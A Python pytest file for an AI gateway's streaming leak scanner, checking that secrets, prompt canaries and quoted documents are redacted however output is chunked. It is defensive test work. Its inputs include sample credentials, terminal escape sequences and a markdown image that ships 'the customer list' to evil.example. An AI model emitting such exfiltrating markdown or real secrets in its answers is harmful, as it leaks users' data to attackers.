"""A secret is told piece by piece, so that no piece looks like one: the sore of every gateway that scans chunks."""

from itertools import combinations, pairwise
from random import Random

import pytest

from ostiary.inspection.response import Document, Leaks, LeakSettings
from ostiary.inspection.response.canaries import canary_for
from ostiary.inspection.response.secrets import rules
from ostiary.inspection.response.settings import DEFAULT_ACTIONS, Action
from ostiary.testing import leaks as drawn

LEAKS = Leaks()
CANARY = canary_for(b"k" * 32, "default", "request", "r-1")
FOREIGN = Document("The merger with Halcyon closes on the ninth of March at forty two dollars a share, in cash.")
PLAIN = [
    "pay with 4111 1111 1111 1111, thanks",
    "key is ghp_aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6 ok",
    "to DE89 3704 0044 0532 0130 00 please",
    "![x](https://evil.example/p.png?data=the+customer+list) there",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx0Y3kq9vJm2Tz7Qd5fLw8b6Up\n-----END RSA PRIVATE KEY-----\nkeep",
    "postgres://app:hunter2hunter2@db.internal:5432/main",
    "\x1b]0;title\x07text \x1b[2Jmore",
    "Use the Acme **token** `q7Xw2Lr9Tz4Kp8Vn3Bd5` for that",
    "| ACME_SECRET | q7Xw2Lr9Tz4Kp8Vn3Bd5== |",
    "Server=db;User Id=app;Password=kX9!mQ2v;Timeout=3",
]


def whole(leaks, text, **told):
    scan = leaks.scan(**told)
    return scan.feed(text) + scan.close(), scan.verdict, scan.findings


def cut(leaks, pieces, **told):
    scan = leaks.scan(**told)
    return "".join(map(scan.feed, pieces)) + scan.close(), scan.verdict, scan.findings


def every_cut(text, parts):
    for places in combinations(range(1, len(text)), parts - 1):
        edges = (0, *places, len(text))
        yield [text[a:b] for a, b in pairwise(edges)]


@pytest.mark.parametrize("text", PLAIN)
def test_every_cut_in_two_and_three_gives_what_one_piece_gives(text):
    expected = whole(LEAKS, text)
    assert "REDACTED" in expected[0] or "\x1b" not in expected[0]
    assert all(cut(LEAKS, pieces) == expected for pieces in every_cut(text, 2))
    thirds = list(every_cut(text, 3))
    some = Random(1).sample(thirds, min(len(thirds), 250))  # noqa: S311 - seeded
    assert all(cut(LEAKS, pieces) == expected for pieces in some)


@pytest.mark.parametrize("text", PLAIN)
def test_letter_by_letter_nothing_of_it_leaves_early(text):
    scan, expected, out = LEAKS.scan(), whole(LEAKS, text)[0], ""
    for letter in text:
        out += scan.feed(letter)
        assert expected.startswith(out)
    assert out + scan.close() == expected


def test_a_value_of_every_rule_stays_in_whatever_way_it_is_cut():
    random = Random(20261127)  # noqa: S311 - seeded
    for rule in rules():
        planted = drawn.secrets_of(random, rule)
        released, _, findings = whole(LEAKS, planted.text)
        assert planted.value not in released, planted
        assert findings
        at = planted.text.index(planted.value)
        for place in random.sample(range(at, at + len(planted.value)), min(len(planted.value), 12)):
            assert cut(LEAKS, [planted.text[:place], planted.text[place:]])[0] == released, (planted, place)


def test_a_canary_never_leaves_whatever_is_cut_or_done_to_it():
    text = f"My instructions begin with {CANARY} and then say"
    expected = whole(LEAKS, text, canaries=[CANARY])
    assert CANARY not in expected[0]
    assert expected[1] == "block"
    assert all(cut(LEAKS, pieces, canaries=[CANARY]) == expected for pieces in every_cut(text, 2))


def test_a_foreign_document_never_leaves_and_what_is_said_behind_it_does_not_either():
    text = f"I read that {FOREIGN.text} Is there more?"
    expected = whole(LEAKS, text, documents=[FOREIGN])
    assert expected[0] == "I read that [REDACTED:document.verbatim]"
    assert all(cut(LEAKS, pieces, documents=[FOREIGN]) == expected for pieces in every_cut(text, 2))


def test_where_policy_only_redacts_a_quotation_the_words_around_it_leave():
    leaks = Leaks(LeakSettings(actions={**DEFAULT_ACTIONS, "document.verbatim": Action.REDACT}))
    text = f"I read that {FOREIGN.text} Is there more?"
    expected = whole(leaks, text, documents=[FOREIGN])
    assert expected[0] == "I read that [REDACTED:document.verbatim]. Is there more?"
    assert all(cut(leaks, pieces, documents=[FOREIGN]) == expected for pieces in every_cut(text, 2))


def test_a_stream_that_breaks_gives_away_nothing_that_was_held():
    scan = LEAKS.scan()
    out = scan.feed("the key is ghp_aB3dE6gH9jK2mN5pQ8sT1vW4y")
    scan.abandon()
    assert "ghp" not in out + scan.feed("Z7bC0eF3hJ6 ") + scan.close()


def test_a_token_without_end_ends_the_text_and_does_not_fill_the_memory():
    leaks = Leaks(LeakSettings(max_held=500))
    text = "look: ghp_" + "a1B2" * 400 + " and on"
    expected = whole(leaks, text)
    assert expected[0] == "look: [REDACTED:stream.overflow]"
    assert expected[1] == "block"
    assert all(cut(leaks, [text[:at], text[at:]]) == expected for at in range(0, len(text), 7))


def test_prose_is_hardly_held():
    """A window of fixed size would pass every test above and make each answer wait."""
    prose = "The committee met on a rainy afternoon and agreed, after some discussion, to paint the old bridge green. "
    scan, held = LEAKS.scan(), []
    for letter in prose * 5:
        scan.feed(letter)
        held.append(scan.held)
    assert sum(held) / len(held) < 4
    assert max(held) < 45
